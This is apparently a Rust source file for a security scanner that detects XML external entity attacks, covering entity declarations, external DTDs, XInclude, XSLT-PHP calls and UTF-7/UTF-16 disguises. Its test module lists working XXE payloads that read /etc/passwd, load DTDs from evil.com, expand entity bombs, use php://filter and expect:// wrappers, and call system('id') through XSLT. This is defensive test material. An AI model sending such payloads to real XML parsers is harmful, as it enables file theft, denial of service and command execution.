//! XML external entities. Flags the XML constructs that make a parser fetch or expand
//! something: entity declarations with an external identifier (`<!ENTITY x SYSTEM "file:...">`,
//! `PUBLIC`), parameter entities (`<!ENTITY % x ...>`, `%x;`), entity expansion bombs, a DOCTYPE
//! that loads an external DTD, XInclude, and resource URLs with local or wrapper schemes
//! (`file:`, `expect:`, `php:`) inside XML attributes.
//!
//! Matching is case-insensitive and tolerates whitespace inside `<! DOCTYPE`. Ordinary XML, RSS,
//! SVG and `<!DOCTYPE html>` have none of these and pass; a DOCTYPE naming a public W3C DTD
//! (XHTML) is ordinary too.

use crate::check::Check;
use crate::finding::Finding;

/// Scores at or above this are findings; weaker evidence is dropped.
pub const THRESHOLD: f32 = 0.5;

/// Declarations examined per value.
const MAX_DECLS: usize = 64;

pub fn inspect(text: &str) -> Option<Finding> {
    // Every rule reads a `<` or a `%`.
    memchr::memchr2(b'<', b'%', text.as_bytes())?;
    // A document that declares UTF-7 is parsed as UTF-7: `+ADwAIQ-DOCTYPE` is `<!DOCTYPE`.
    if let Some(decoded) = utf7_document(text) {
        if let Some(mut f) = scan(&decoded) {
            f.evidence.push_str(" (in a UTF-7 encoded document)");
            return Some(f);
        }
    }
    // UTF-16 read as bytes: every ASCII character followed or preceded by NUL. The parser
    // decodes it; so do we, by dropping the NULs.
    if let Some(narrow) = utf16_as_ascii(text) {
        if let Some(mut f) = scan(&narrow) {
            f.evidence.push_str(" (in a UTF-16 encoded document)");
            return Some(f);
        }
    }
    scan(text)
}

/// The text without NULs when at least a third of its characters are NUL (UTF-16 or UCS-4
/// ASCII) and it then looks like XML; `None` otherwise.
fn utf16_as_ascii(text: &str) -> Option<String> {
    let seen = text.len().min(4096);
    // Almost no value holds a NUL: one fast search instead of a count.
    memchr::memchr(0, &text.as_bytes()[..seen])?;
    let nul = text.bytes().take(4096).filter(|b| *b == 0).count();
    if nul == 0 || nul * 3 < seen {
        return None;
    }
    let narrow: String = text
        .chars()
        .filter(|c| *c != '\0' && *c != '\u{feff}' && *c != '\u{fffd}')
        .collect();
    narrow.contains('<').then_some(narrow)
}

/// Bytes some rule of [`scan`] needs: `!` (declarations, CDATA), `:` (XInclude and XSLT
/// prefixes, URL schemes), `%` with `;` (parameter references), `2` with `/` (the XInclude
/// namespace URL), `=` (a data island's `src=`).
mod need {
    pub const BANG: u8 = 1;
    pub const COLON: u8 = 1 << 1;
    pub const PERCENT: u8 = 1 << 2;
    pub const SEMI: u8 = 1 << 3;
    pub const TWO: u8 = 1 << 4;
    pub const SLASH: u8 = 1 << 5;
    pub const EQ: u8 = 1 << 6;

    pub static TABLE: [u8; 256] = {
        let mut t = [0u8; 256];
        t[b'!' as usize] = BANG;
        t[b':' as usize] = COLON;
        t[b'%' as usize] = PERCENT;
        t[b';' as usize] = SEMI;
        t[b'2' as usize] = TWO;
        t[b'/' as usize] = SLASH;
        t[b'=' as usize] = EQ;
        t
    };
}

/// False only when no rule of [`scan`] can match: each needs some ASCII punctuation or digits
/// (lower-casing and squeezing never make those), so most values skip the lower-cased copies.
fn may_match(text: &str) -> bool {
    let b = text.as_bytes();
    let seen = b.iter().fold(0, |m, &c| m | need::TABLE[usize::from(c)]);
    let both = |x: u8, y: u8| seen & x != 0 && seen & y != 0;
    seen & (need::BANG | need::COLON) != 0
        || both(need::PERCENT, need::SEMI)
        || both(need::TWO, need::SLASH)
        // `<xml`: only ASCII letters lower-case to x, m and l.
        || (seen & need::EQ != 0
            && memchr::memchr_iter(b'<', b)
                .any(|i| b.get(i + 1..i + 4).is_some_and(|w| w.eq_ignore_ascii_case(b"xml"))))
}

/// Local and wrapper URL schemes an XML attribute may name.
const SCHEMES: [&str; 7] = [
    "file:", "expect:", "php:", "jar:", "netdoc:", "gopher:", "data:",
];

/// `="scheme` or `='scheme` in the squeezed text: an attribute holding such a URL. A raster
/// image inlined as `data:image/png;base64,...` is a picture pasted into an editor, and reads
/// no resource; `data:image/svg+xml` is a document and counts.
fn attribute_url(squeezed: &str) -> bool {
    let b = squeezed.as_bytes();
    memchr::memchr_iter(b'=', b).any(|i| {
        matches!(b.get(i + 1), Some(b'"' | b'\''))
            && SCHEMES.iter().any(|s| b[i + 2..].starts_with(s.as_bytes()))
            && !raster_image(&b[i + 2..])
    })
}

/// Whether `url` starts as a `data:` URL of an image other than SVG.
fn raster_image(url: &[u8]) -> bool {
    url.strip_prefix(b"data:image/")
        .is_some_and(|t| !t.starts_with(b"svg"))
}

/// Whitespace removed and lower-cased: `<! DOCTYPE` and `<!ENTITY` spelled any way.
fn squeeze(text: &str) -> String {
    if text.is_ascii() {
        // The same string without the per-character Unicode tables.
        let mut v = Vec::with_capacity(text.len());
        v.extend(
            text.bytes()
                .filter(|&b| !is_ascii_white_space(b))
                .map(|b| b.to_ascii_lowercase()),
        );
        // ASCII bytes are always UTF-8: the default is never taken.
        return String::from_utf8(v).unwrap_or_default();
    }
    text.chars()
        .filter(|c| !c.is_whitespace())
        .flat_map(|c| c.to_lowercase())
        .collect()
}

/// `char::is_whitespace` on ASCII: also the vertical tab, which `u8::is_ascii_whitespace`
/// leaves out.
fn is_ascii_white_space(b: u8) -> bool {
    matches!(b, b'\t' | b'\n' | 0x0b | 0x0c | b'\r' | b' ')
}

/// `str::to_lowercase`, without the Unicode tables when the text is ASCII.
fn lower_case(text: &str) -> String {
    if text.is_ascii() {
        text.to_ascii_lowercase()
    } else {
        text.to_lowercase()
    }
}

fn scan(text: &str) -> Option<Finding> {
    if !may_match(text) {
        return None;
    }
    if memchr::memchr(b'<', text.as_bytes()).is_none() {
        return scan_without_lt(text);
    }
    scan_all(text)
}

/// [`scan_all`] on a text without `<`. Only two of its rules read no `<`, and no character
/// lower-cases to `<`: the lower-cased copy is built only for the XInclude namespace URL, and
/// only when the text holds its `2`, `3`, `/`, `w` and `x` (no other character lower-cases to
/// one of them).
fn scan_without_lt(text: &str) -> Option<Finding> {
    const W: u8 = 1;
    const X: u8 = 1 << 1;
    const TWO: u8 = 1 << 2;
    const THREE: u8 = 1 << 3;
    const SLASH: u8 = 1 << 4;
    static URL: [u8; 256] = crate::detect::prefilter::byte_classes(&[
        (b"wW", W),
        (b"xX", X),
        (b"2", TWO),
        (b"3", THREE),
        (b"/", SLASH),
    ]);
    let seen = text.bytes().fold(0, |m, c| m | URL[usize::from(c)]);
    let xinclude =
        seen == W | X | TWO | THREE | SLASH && squeeze(text).contains("w3.org/2001/xinclude");
    let (score, why) = if xinclude {
        (0.85, "XInclude of another resource")
    } else if bare_param_references(text) {
        (0.6, BARE_PARAM_REFERENCES)
    } else {
        return None;
    };
    (score >= THRESHOLD).then(|| Finding::new(Check::Xxe, score, why))
}

const BARE_PARAM_REFERENCES: &str =
    "value is only parameter entity references (%x;), a DTD payload fragment";

/// Every rule, on any text.
fn scan_all(text: &str) -> Option<Finding> {
    let squeezed = squeeze(text);
    let lower = lower_case(text);
    let mut best: Option<(f32, &'static str)> = None;
    let mut keep = |score: f32, why: &'static str| {
        if best.as_ref().is_none_or(|(s, _)| score > *s) {
            best = Some((score, why));
        }
    };
    let mut entities = 0;
    for (at, _) in squeezed.match_indices("<!entity").take(MAX_DECLS) {
        entities += 1;
        let decl = decl_body(&squeezed[at + 8..]);
        let parameter = decl.starts_with('%');
        let external = decl.contains("system\"")
            || decl.contains("system'")
            || decl.contains("public\"")
            || decl.contains("public'");
        if external && parameter {
            keep(
                0.95,
                "external parameter entity declaration (<!ENTITY % x SYSTEM ...>)",
            );
        } else if external {
            keep(
                0.95,
                "external entity declaration (<!ENTITY x SYSTEM/PUBLIC ...>)",
            );
        } else if parameter {
            keep(0.85, "parameter entity declaration (<!ENTITY % x ...>)");
        } else if decl.matches('&').count() >= 2 {
            keep(
                0.8,
                "entity whose value expands other entities (expansion bomb)",
            );
        } else {
            keep(0.6, "internal entity declaration in a DOCTYPE");
        }
    }
    if let Some(p) = squeezed.find("<!doctype") {
        let decl = decl_body(&squeezed[p + 9..]);
        if decl.contains("system\"") || decl.contains("system'") {
            keep(0.8, "DOCTYPE loading an external DTD (SYSTEM)");
        } else if (decl.contains("public\"") || decl.contains("public'")) && !w3c_public(decl) {
            keep(0.7, "DOCTYPE loading an external DTD (PUBLIC)");
        }
        if entities == 0 && decl.contains('[') && param_reference(decl) {
            keep(0.85, "parameter entity reference inside a DOCTYPE subset");
        }
    }
    if squeezed.contains("<xi:include") || squeezed.contains("w3.org/2001/xinclude") {
        keep(0.85, "XInclude of another resource");
    }
    // XSLT that reads documents or calls PHP functions from a stylesheet.
    if squeezed.contains("<xsl:stylesheet") || squeezed.contains("<xsl:transform") {
        if squeezed.contains("php.net/xsl") || squeezed.contains("php:function") {
            keep(0.85, "XSLT stylesheet calling PHP functions");
        } else if squeezed.contains("document(") || squeezed.contains("unparsed-text(") {
            keep(0.75, "XSLT stylesheet reading another document");
        }
    }
    if (text.starts_with('<') || lower.contains("<?xml") || lower.contains("<svg"))
        && attribute_url(&squeezed)
    {
        keep(0.6, "XML attribute referencing a local or wrapper URL");
    }
    if bare_param_references(text) {
        keep(0.6, BARE_PARAM_REFERENCES);
    }
    if let Some((score, why)) = super::xxe_cdata::judge(&lower) {
        keep(score, why);
    }
    if data_island_src(&lower) {
        keep(
            0.6,
            "XML data island loading an external document (<xml src=...>)",
        );
    }
    let (score, why) = best?;
    (score >= THRESHOLD).then(|| Finding::new(Check::Xxe, score, why))
}

/// A PUBLIC DOCTYPE that cannot fetch anything from an attacker: its public identifier is a
/// W3C one and its system identifier, if any, is a URL on www.w3.org itself. That is how every
/// XHTML and HTML 4 page starts; parsers resolve it from a catalog or not at all, and the host
/// is fixed, so it is ordinary. A W3C-looking identifier with a system URL elsewhere
/// (`http://evil.example/w3.org/x.dtd`) is still an external DTD. `decl` is squeezed and
/// lower-cased; the internal subset, if any, is judged by the entity rules.
fn w3c_public(decl: &str) -> bool {
    let head = decl.split('[').next().unwrap_or("");
    let mut literals = head.split(['"', '\'']).skip(1).step_by(2);
    let Some(public_id) = literals.next() else {
        return false;
    };
    public_id.starts_with("-//w3c//")
        && literals.take(4).all(|system| {
            system.starts_with("http://www.w3.org/") || system.starts_with("https://www.w3.org/")
        })
}

/// The whole value is one or more `%name;` and nothing else: the reference half of a
/// parameter-entity payload, sent apart from its declaration. No prose or URL looks like it.
fn bare_param_references(text: &str) -> bool {
    let t = text.trim();
    if t.is_empty() || t.len() > 256 || !t.starts_with('%') {
        return false;
    }
    t.split_inclusive(';').all(|piece| {
        let piece = piece.trim();
        piece
            .strip_prefix('%')
            .and_then(|p| p.strip_suffix(';'))
            .is_some_and(|name| {
                name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
                    && name
                        .bytes()
                        .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.'))
            })
    })
}

/// `<xml src="...">`: an IE XML data island that makes the browser fetch and parse another
/// document. `lower` is the lower-cased value.
fn data_island_src(lower: &str) -> bool {
    lower.match_indices("<xml").take(16).any(|(i, _)| {
        let tag = &lower[i + 4..];
        if !tag.starts_with(|c: char| c.is_ascii_whitespace()) {
            return false;
        }
        let tag = &tag[..tag.find('>').unwrap_or(tag.len())];
        let squeezed: String = tag
            .chars()
            .filter(|c| !c.is_whitespace())
            .take(512)
            .collect();
        squeezed.contains("src=")
    })
}

/// The text decoded from UTF-7 when its XML declaration says `encoding="UTF-7"`.
fn utf7_document(text: &str) -> Option<String> {
    let head = text.get(..text.len().min(200)).unwrap_or("").as_bytes();
    // ASCII case is ignored in place: no lower-cased copy of every value's head.
    let has = |needle: &[u8]| {
        let (lo, up) = (
            needle[0].to_ascii_lowercase(),
            needle[0].to_ascii_uppercase(),
        );
        memchr::memchr2_iter(lo, up, head).any(|i| {
            head.get(i..i + needle.len())
                .is_some_and(|w| w.eq_ignore_ascii_case(needle))
        })
    };
    if !has(b"<?xml") || !(has(b"utf-7") || has(b"utf7")) {
        return None;
    }
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(p) = rest.find('+') {
        out.push_str(&rest[..p]);
        let run = &rest[p + 1..];
        let n = run
            .bytes()
            .take_while(|b| b.is_ascii_alphanumeric() || *b == b'+' || *b == b'/')
            .count();
        // Modified base64 of UTF-16BE: 6 bits per character, one unit per 16 bits.
        let mut acc: u32 = 0;
        let mut bits = 0;
        let mut units: Vec<u16> = Vec::with_capacity(n * 6 / 16);
        for b in run[..n].bytes() {
            let v = match b {
                b'A'..=b'Z' => b - b'A',
                b'a'..=b'z' => b - b'a' + 26,
                b'0'..=b'9' => b - b'0' + 52,
                b'+' => 62,
                _ => 63,
            };
            acc = (acc << 6 | u32::from(v)) & 0x3f_ffff;
            bits += 6;
            if bits >= 16 {
                bits -= 16;
                units.push((acc >> bits) as u16);
            }
        }
        if n == 0 {
            out.push('+');
        } else {
            out.push_str(&String::from_utf16_lossy(&units));
        }
        rest = &run[n..];
        rest = rest.strip_prefix('-').unwrap_or(rest);
    }
    out.push_str(rest);
    Some(out)
}

/// The declaration up to its closing `>`, skipping `>` inside quotes and a `[...]` subset.
fn decl_body(s: &str) -> &str {
    let mut quote: Option<char> = None;
    let mut subset = 0usize;
    for (i, c) in s.char_indices() {
        match (quote, c) {
            (Some(q), c) if c == q => quote = None,
            (Some(_), _) => {}
            (None, '"' | '\'') => quote = Some(c),
            (None, '[') => subset += 1,
            (None, ']') => subset = subset.saturating_sub(1),
            (None, '>') if subset == 0 => return &s[..i],
            _ => {}
        }
    }
    s
}

/// `%name;` in a DOCTYPE internal subset.
fn param_reference(decl: &str) -> bool {
    decl.match_indices('%').any(|(i, _)| {
        let rest = &decl[i + 1..];
        let n = rest
            .bytes()
            .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.'))
            .count();
        n > 0 && rest[n..].starts_with(';')
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_ascii_letters_kelvin_and_dotted_i_lower_case_to_ascii() {
        // What `scan_without_lt` and the ASCII path of `squeeze` rely on, over every code
        // point: no character lower-cases to `<` or to any ASCII byte but a letter (the
        // Kelvin sign to `k`, U+0130 to `i` and a combining dot), and `char::is_whitespace`
        // on ASCII is `is_ascii_white_space`.
        for c in (0..=0x10_FFFFu32).filter_map(char::from_u32) {
            for l in c.to_lowercase() {
                assert!(l != '<' || c == '<', "{c:?}");
                if l.is_ascii() && !c.is_ascii() {
                    assert!(
                        matches!((c, l), ('\u{212A}', 'k') | ('\u{130}', 'i')),
                        "{c:?}"
                    );
                }
            }
            if c.is_ascii() {
                assert_eq!(c.is_whitespace(), is_ascii_white_space(c as u8), "{c:?}");
                assert_eq!(
                    c.to_lowercase().collect::<String>(),
                    c.to_ascii_lowercase().to_string()
                );
            }
        }
    }

    #[test]
    fn gated_paths_match_every_rule() {
        // Generated values: the `<`-less path and the ASCII copies give what every rule on
        // the Unicode copies gives.
        let parts = [
            "w3.org/2001/xinclude",
            "W3.ORG/2001/XINCLUDE",
            "w3.org/ 2001/\u{3000}xinclude",
            "w3.org/2001/x\u{130}nclude",
            "%x;",
            "%a; ",
            " %b;",
            "%",
            ";",
            "<",
            "<!",
            "!",
            ":",
            "2",
            "/",
            "=",
            "xml",
            "<xml ",
            "src=",
            "entity",
            "ENTITY",
            "doctype",
            "<!DOCTYPE x [",
            "]>",
            "SYSTEM",
            "\"file:///etc/passwd\"",
            "<![CDATA[",
            "]]>",
            "<xi:include",
            "\t",
            "\u{b}",
            "\u{3000}",
            "\u{212A}",
            "a",
            "é",
            "<svg",
            "<?xml",
            " ",
            "&a;",
            "\u{130}",
        ];
        let mut rng = crate::test_rng::TestRng::new(0x9E37_79B9_7F4A_7C15);
        let unicode_squeeze = |t: &str| -> String {
            t.chars()
                .filter(|c| !c.is_whitespace())
                .flat_map(|c| c.to_lowercase())
                .collect()
        };
        let (mut found, mut found_without_lt) = (0, 0);
        for _ in 0..40_000 {
            let t = rng.pieces(&parts, 8);
            assert_eq!(squeeze(&t), unicode_squeeze(&t), "{t:?}");
            assert_eq!(lower_case(&t), t.to_lowercase(), "{t:?}");
            let all = scan_all(&t);
            found += usize::from(all.is_some());
            if !t.contains('<') {
                assert_eq!(scan_without_lt(&t), all, "{t:?}");
                found_without_lt += usize::from(all.is_some());
            }
        }
        assert!(
            found > 1000 && found_without_lt > 100,
            "{found} {found_without_lt}"
        );
    }

    fn flagged(s: &str) -> bool {
        inspect(s).is_some_and(|f| f.score >= 0.5)
    }

    #[test]
    fn entity_attacks() {
        for s in [
            "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
            "<!DOCTYPE foo [<!ENTITY xxe PUBLIC \"-//x//y\" \"http://evil.com/x.dtd\">]>",
            "<!DOCTYPE foo [<!ENTITY % xxe SYSTEM \"http://evil.com/x.dtd\"> %xxe;]>",
            "<! doctype foo [ <!entity   xxe   system   'file:///c:/boot.ini' > ]>",
            "<!DOCTYPE foo SYSTEM \"http://evil.com/evil.dtd\"><foo/>",
            "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;\">]><lolz>&lol2;</lolz>",
            "<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></foo>",
            "<!DOCTYPE x [ %remote; ]>",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"expect://ls\"/></svg>",
            "<!ENTITY % file SYSTEM \"php://filter/convert.base64-encode/resource=/etc/passwd\">",
            "<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADwAIQ-DOCTYPE foo+AFs +ADwAIQ-ENTITY xxe SYSTEM +ACI-http://x.example/+ACI +AD4AXQA+",
            "\u{feff}<\0?\0x\0m\0l\0 \0?\0>\0<\0!\0D\0O\0C\0T\0Y\0P\0E\0 \0x\0 \0[\0<\0!\0E\0N\0T\0I\0T\0Y\0 \0a\0 \0S\0Y\0S\0T\0E\0M\0 \0\"\0f\0i\0l\0e\0:\0/\0/\0/\0x\0\"\0>\0]\0>\0",
            "%foo;",
            " %dtd; %send; ",
            "<!DOCTYPE x PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" \"http://evil.example/w3.org/x.dtd\">",
            "<![CDATA[<]]>script<![CDATA[>]]>alert(1)<![CDATA[<]]>/script<![CDATA[>]]>",
            "<xml SRC=\"http://evil.example/x.xml\" ID=I></xml>",
            "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" xmlns:php=\"http://php.net/xsl\"><xsl:value-of select=\"php:function('system','id')\"/></xsl:stylesheet>",
        ] {
            assert!(flagged(s), "{s}");
        }
    }

    #[test]
    fn ordinary_xml_passes() {
        for s in [
            "<!DOCTYPE html><html><body><b>bold</b></body></html>",
            "<?xml version=\"1.0\"?><order><city>Zürich</city><qty>2</qty></order>",
            "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\"><rect x=\"1\"/></svg>",
            "<rss version=\"2.0\"><channel><title>News</title><link>https://example.com/</link></channel></rss>",
            "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">",
            "<!DOCTYPE HTML PUBLIC \"-//W3C//DTD HTML 4.01//EN\">",
            "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.1//EN\" 'https://www.w3.org/TR/xhtml11/DTD/xhtml11.dtd'><html/>",
            "<rss><item><description><![CDATA[<p>Hi</p>]]></description></item></rss>",
            "<xml><a>1</a></xml>",
            "<xmlfile src=\"a.xml\"/>",
            "%d; 100%",
            "%s;%d",
            "50%;",
            "a < b and c > d",
            "50% off; 20% more",
            "The ENTITY keyword is described in the XML spec",
        ] {
            assert!(!flagged(s), "{s}");
        }
    }

    #[test]
    fn gate_admits_what_the_rules_read() {
        for s in [
            "<!DOCTYPE x>",
            "<xi:include href=\"a\"/>",
            "w3.org/2001/XInclude",
            "%a;",
            "<XML src=x></XML>",
            "<a href='file:///etc/passwd'/>",
        ] {
            assert!(may_match(s), "{s}");
        }
        for s in [
            "<svg/onload=alert(document.cookie)>",
            "<b>bold</b>",
            "100% sure",
        ] {
            assert!(!may_match(s), "{s}");
        }
    }

    #[test]
    fn attribute_url_reads_like_the_joined_needles() {
        let joined = |s: &str| {
            SCHEMES.iter().any(|scheme| {
                ['"', '\'']
                    .iter()
                    .any(|q| s.contains(&format!("={q}{scheme}")))
            })
        };
        assert!(!attribute_url("<pimg src=\"data:image/png;base64,ivbo\">"));
        assert!(attribute_url("<x href=\"data:image/svg+xml;base64,pd94\">"));
        assert!(attribute_url("<x href='data:text/plain;base64,pd94'>"));
        for s in [
            "<a=\"file:x\"/>",
            "<a='php://x'/>",
            "<a=\"http://x\"/>",
            "<a=file:x/>",
            "=",
            "='",
            "<a='gopher:",
        ] {
            assert_eq!(attribute_url(s), joined(s), "{s}");
        }
    }

    #[test]
    fn hostile_input_does_not_panic() {
        let _ = inspect(&"<!ENTITY".repeat(20_000));
        let _ = inspect(&"<!DOCTYPE [".repeat(10_000));
        let _ = inspect("<!DOCTYPE é [ %ü; ]>");
        let _ = inspect("\0<\0é\0");
        let _ = inspect(&"<![CDATA[<]]>".repeat(20_000));
        let _ = inspect(&"<xml ".repeat(20_000));
        let _ = inspect(&"%a;".repeat(20_000));
        let _ = inspect("<![CDATA[é]]>%é;");
    }
}
